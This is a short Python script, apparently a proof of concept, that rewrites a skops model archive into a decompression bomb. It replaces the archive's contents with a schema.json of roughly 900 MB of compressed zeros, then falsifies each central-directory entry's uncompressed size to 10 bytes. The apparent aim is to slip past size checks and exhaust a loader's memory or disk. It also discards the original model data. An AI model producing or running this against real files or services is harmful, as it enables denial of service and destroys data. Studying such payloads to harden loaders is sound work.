import pathlib
import struct
import zipfile

file = next(pathlib.Path().rglob("model.skops"))
with zipfile.ZipFile(file) as archive:
    members = {name: archive.read(name) for name in archive.namelist()}
with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    with archive.open("schema.json", "w") as member:
        for _ in range(9):
            member.write(bytes(100_000_000))
raw = bytearray(file.read_bytes())
for at in range(len(raw) - 4):
    if raw[at : at + 4] == b"PK\x01\x02":
        raw[at + 24 : at + 28] = struct.pack("<I", 10)
file.write_bytes(bytes(raw))
